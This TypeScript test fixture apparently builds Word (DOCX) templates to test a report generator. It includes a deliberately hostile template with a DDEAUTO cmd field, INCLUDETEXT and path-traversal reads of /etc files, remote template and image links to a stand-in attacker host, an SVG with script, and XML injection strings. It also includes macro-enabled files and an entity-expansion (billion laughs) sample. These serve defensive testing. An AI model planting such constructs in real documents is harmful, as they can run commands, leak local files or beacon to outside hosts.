import { strToU8, zipSync } from 'fflate'
import { drawPng } from '../../server/report/png.ts'

const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const r = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const packaged = 'http://schemas.openxmlformats.org/package/2006'
const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
const drawing = 'http://schemas.openxmlformats.org/drawingml/2006'
const namespaces = `xmlns:w="${w}" xmlns:r="${r}" xmlns:wp="${drawing}/wordprocessingDrawing" xmlns:a="${drawing}/main" xmlns:pic="${drawing}/picture" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"`

const relationsFile = (...lines: readonly (readonly [id: string, type: string, target: string, mode?: string])[]) =>
  `<Relationships xmlns="${packaged}/relationships">${lines.map(([id, type, target, mode]) => `<Relationship Id="${id}" Type="${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`).join('')}</Relationships>`

/** A bar of colour, as a logo. */
export const logo = (): Uint8Array =>
  drawPng({
    width: 240,
    height: 80,
    shapes: [{ is: 'rect', x: 0, y: 0, width: 240, height: 80, radius: 12, look: { fill: '#7a1f3d' } }],
  })

const style = (type: string, id: string, name: string, inside: string, more = '') =>
  `<w:style w:type="${type}" w:styleId="${id}"${more}><w:name w:val="${name}"/>${inside}</w:style>`

/** As Russian Word writes them: English names, short ids. */
const styles = `<w:styles xmlns:w="${w}"><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/><w:sz w:val="22"/></w:rPr></w:rPrDefault><w:pPrDefault><w:pPr><w:spacing w:after="120" w:line="264" w:lineRule="auto"/></w:pPr></w:pPrDefault></w:docDefaults>
${style('paragraph', 'a', 'Normal', '<w:qFormat/>', ' w:default="1"')}
${style('paragraph', '1', 'heading 1', '<w:basedOn w:val="a"/><w:next w:val="a"/><w:pPr><w:keepNext/><w:numPr><w:numId w:val="3"/></w:numPr><w:spacing w:before="240" w:after="120"/><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:b/><w:color w:val="7A1F3D" w:themeColor="accent2"/><w:sz w:val="36"/></w:rPr>')}
${style('paragraph', '2', 'heading 2', '<w:basedOn w:val="1"/><w:pPr><w:outlineLvl w:val="1"/></w:pPr><w:rPr><w:sz w:val="28"/></w:rPr>')}
${style('paragraph', 'a3', 'Title', '<w:basedOn w:val="a"/><w:pPr><w:jc w:val="center"/></w:pPr><w:rPr><w:caps/><w:sz w:val="44"/></w:rPr>')}
${style('paragraph', 'a4', 'caption', '<w:basedOn w:val="a"/><w:pPr><w:keepNext/></w:pPr><w:rPr><w:i/><w:sz w:val="20"/></w:rPr>')}
${style('paragraph', 'af', 'Таблица доклада текст', '<w:basedOn w:val="af"/>')}
${style('table', 'a5', 'Table Grid', '<w:tblPr><w:tblBorders><w:top w:val="single" w:sz="4" w:space="0" w:color="7A1F3D"/><w:left w:val="single" w:sz="4" w:space="0" w:color="7A1F3D"/><w:bottom w:val="single" w:sz="4" w:space="0" w:color="7A1F3D"/><w:right w:val="single" w:sz="4" w:space="0" w:color="7A1F3D"/><w:insideH w:val="single" w:sz="4" w:space="0" w:color="7A1F3D"/><w:insideV w:val="single" w:sz="4" w:space="0" w:color="7A1F3D"/></w:tblBorders></w:tblPr>')}
</w:styles>`

const slots = ['dk1', 'lt1', 'dk2', 'lt2', 'accent1', 'accent2', 'accent3', 'accent4', 'accent5', 'accent6', 'hlink', 'folHlink']
const theme = `<a:theme xmlns:a="${drawing}/main" xmlns:r="${r}" name="Office"><a:themeElements><a:clrScheme name="Office">${slots.map((slot) => `<a:${slot}><a:srgbClr val="${slot === 'accent2' ? '7A1F3D' : '224466'}"/></a:${slot}>`).join('')}</a:clrScheme><a:fontScheme name="Office"><a:majorFont><a:latin typeface="Liberation Serif"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Liberation Serif"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme><a:fmtScheme name="Office"><a:bgFillStyleLst><a:blipFill><a:blip r:embed="rId1"/></a:blipFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>`

const picture = (relation: string, how = 'r:embed') =>
  `<w:r><w:drawing><wp:inline><wp:extent cx="1524000" cy="508000"/><wp:docPr id="1" name="Logo" descr="Secret"/><a:graphic><a:graphicData uri="${drawing}/picture"><pic:pic><pic:blipFill><a:blip ${how}="${relation}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`
const field = (instruction: string, says: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> ${instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${says}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`

export interface TemplateParts {
  readonly header: string
  readonly footer: string
  readonly styles: string
  readonly headerRelations: string
  readonly documentRelations: readonly (readonly [string, string, string, string?])[]
  readonly section: string
  readonly contentTypes: string
  readonly more: Readonly<Record<string, Uint8Array>>
}

const usual: TemplateParts = {
  header: `<w:p>${picture('rId1')}<w:r><w:tab/><w:t>Управление по наркотикам &amp; преступности</w:t></w:r></w:p>`,
  footer: `<w:p><w:r><w:t xml:space="preserve">Стр. </w:t></w:r>${field('PAGE', '1')}<w:r><w:t xml:space="preserve"> из </w:t></w:r>${field('NUMPAGES', '9')}</w:p>`,
  styles,
  headerRelations: relationsFile(['rId1', `${r}/image`, 'media/image1.png']),
  documentRelations: [],
  section:
    '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="2268" w:right="1134" w:bottom="1418" w:left="1701" w:header="567" w:footer="567"/>',
  contentTypes: '',
  more: {},
}

/** A Word file as an organiser might bring it; `change` makes it another. */
export function wordTemplate(change: Partial<TemplateParts> = {}): Uint8Array {
  const parts = { ...usual, ...change }
  const texts: Record<string, string> = {
    '[Content_Types].xml': `<Types xmlns="${packaged}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>${parts.contentTypes === '' ? `<Override PartName="/word/document.xml" ContentType="${word}.document.main+xml"/>` : parts.contentTypes}<Override PartName="/word/styles.xml" ContentType="${word}.styles+xml"/></Types>`,
    '_rels/.rels': relationsFile(['rId1', `${r}/officeDocument`, 'word/document.xml']),
    'word/document.xml': `<w:document ${namespaces}><w:body><w:p><w:r><w:t>Words of the template that nobody wants in a report: CanaryTemplate.</w:t></w:r></w:p><w:sectPr><w:headerReference w:type="default" r:id="h"/><w:footerReference w:type="default" r:id="f"/>${parts.section}</w:sectPr></w:body></w:document>`,
    'word/_rels/document.xml.rels': relationsFile(
      ['s', `${r}/styles`, 'styles.xml'],
      ['t', `${r}/theme`, 'theme/theme1.xml'],
      ['h', `${r}/header`, 'header1.xml'],
      ['f', `${r}/footer`, 'footer1.xml'],
      ...parts.documentRelations,
    ),
    'word/styles.xml': parts.styles,
    'word/theme/theme1.xml': theme,
    'word/header1.xml': `<w:hdr ${namespaces}>${parts.header}</w:hdr>`,
    'word/_rels/header1.xml.rels': parts.headerRelations,
    'word/footer1.xml': `<w:ftr ${namespaces}>${parts.footer}</w:ftr>`,
  }
  const files = Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, strToU8(text)]))
  return zipSync({ ...files, 'word/media/image1.png': logo(), ...parts.more })
}

/** Whatever a Word file can do beside looking like something, in one: each of it is named `Evil` somewhere. */
export function hostileTemplate(): Uint8Array {
  return wordTemplate({
    styles: styles
      .replace(
        '<w:qFormat/>',
        '<w:qFormat/><w:rPr><w:rFonts w:ascii="Evil&quot;/&gt;&lt;w:evil/&gt;"/><w:evil r:id="x" xmlns:r="Evil"/></w:rPr>',
      )
      .replace('w:styleId="a3"', 'w:styleId="&quot;&gt;&lt;w:Evil/&gt;"'),
    header:
      `<w:p>${picture('rId1')}${picture('rId2', 'r:link')}${picture('rId3')}${picture('rId4')}${field('INCLUDEPICTURE "http://evil.example/x.png" \\d', 'kept')}${field('DDEAUTO cmd Evil', 'words')}` +
      `<w:fldSimple w:instr=" INCLUDETEXT &quot;file:///etc/EvilPasswd&quot; "><w:r><w:t>simple</w:t></w:r></w:fldSimple>` +
      `<w:hyperlink r:id="rId5"><w:r><w:t>a link</w:t></w:r></w:hyperlink>` +
      `<w:r><w:object><v:shape><v:imagedata r:id="rId2"/></v:shape><w:control r:id="rId5" w:name="EvilControl"/></w:object></w:r>` +
      `<w:r><w:pict><v:shape style="width:10pt;height:10pt" href="http://evil.example/"><v:imagedata r:id="rId2" r:href="rId2"/></v:shape></w:pict></w:r>` +
      `<w:sdt><w:sdtPr><w:dataBinding w:xpath="Evil"/></w:sdtPr><w:sdtContent><w:r><w:t>in a control</w:t></w:r></w:sdtContent></w:sdt>` +
      `<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:inline><wps:wsp><wps:txbx><w:txbxContent><w:p><w:r><w:t>EvilBox</w:t></w:r></w:p></w:txbxContent></wps:txbx></wps:wsp></wp:inline></w:drawing></mc:Choice></mc:AlternateContent></w:r>` +
      `<w:altChunk r:id="rId5"/><w:subDoc r:id="rId5"/></w:p>`,
    headerRelations: relationsFile(
      ['rId1', `${r}/image`, 'media/image1.png'],
      ['rId2', `${r}/image`, 'http://evil.example/logo.png', 'External'],
      ['rId3', `${r}/image`, '../../etc/EvilPasswd'],
      ['rId4', `${r}/image`, 'media/evil.svg'],
      ['rId5', `${r}/hyperlink`, 'http://evil.example/', 'External'],
    ),
    documentRelations: [
      ['x', `${r}/attachedTemplate`, 'http://evil.example/Evil.dotm', 'External'],
      ['y', `${r}/frame`, 'file:///etc/EvilPasswd', 'External'],
    ],
    more: {
      'word/media/evil.svg': strToU8('<svg xmlns="http://www.w3.org/2000/svg"><script>Evil</script></svg>'),
      'word/embeddings/oleObject1.bin': strToU8('Evil'),
      'word/settings.xml': strToU8(
        `<w:settings xmlns:w="${w}"><w:attachedTemplate w:val="Evil"/><w:updateFields w:val="true"/></w:settings>`,
      ),
    },
  })
}

/** Files that cannot be a template, with what is said of each. */
export function unusableTemplates(): Readonly<Record<string, Uint8Array>> {
  const main = (type: string) => `<Override PartName="/word/document.xml" ContentType="${type}"/>`
  const laughs = `<!DOCTYPE w:styles [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>${styles.replace('Title', '&b;')}`
  return {
    'template-not-word': strToU8('just words'),
    'template-old': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    'template-macros': wordTemplate({ contentTypes: main('application/vnd.ms-word.document.macroEnabled.main+xml') }),
    'template-macros ': wordTemplate({ more: { 'word/vbaProject.bin': strToU8('Evil') } }),
    'template-damaged': wordTemplate({ styles: laughs }),
    'template-damaged ': wordTemplate({ styles: '<w:styles>' }),
    'template-damaged  ': wordTemplate({ more: { 'word/media/image1.png': new Uint8Array(30_000_000) } }),
    'template-narrow': wordTemplate({
      section: '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1000" w:right="5000" w:bottom="1000" w:left="5000"/>',
    }),
  }
}
